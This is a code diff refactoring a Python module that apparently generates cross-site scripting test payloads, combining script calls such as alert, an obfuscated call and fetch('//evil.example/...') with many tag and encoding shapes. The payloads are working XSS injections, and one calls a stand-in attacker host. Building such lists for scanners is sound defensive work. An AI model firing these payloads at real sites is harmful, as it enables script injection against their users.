@@ -2,8 +2,13 @@
 
 import itertools
 
-_MARK = "vdk_xss"
-_RUN = (f"alert('{_MARK}')", f"{_MARK}()", f"top[/{_MARK}/.source]()", f"fetch('//evil.example/{_MARK}')")
+_MARKER = "vdk_xss"
+_SCRIPT_CALLS = (
+    f"alert('{_MARKER}')",
+    f"{_MARKER}()",
+    f"top[/{_MARKER}/.source]()",
+    f"fetch('//evil.example/{_MARKER}')",
+)
 _SHAPES = (
     "<script>{run}</script>",
     "</script><script>{run}</script>",
@@ -56,4 +61,4 @@ _SHAPES = (
     "&lt;script&gt;{run}&lt;/script&gt;",
     "＜script＞{run}＜/script＞",
 )
-PAYLOADS = tuple(shape.format(run=run) for shape, run in itertools.product(_SHAPES, _RUN))
+PAYLOADS = tuple(shape.format(run=run) for shape, run in itertools.product(_SHAPES, _SCRIPT_CALLS))
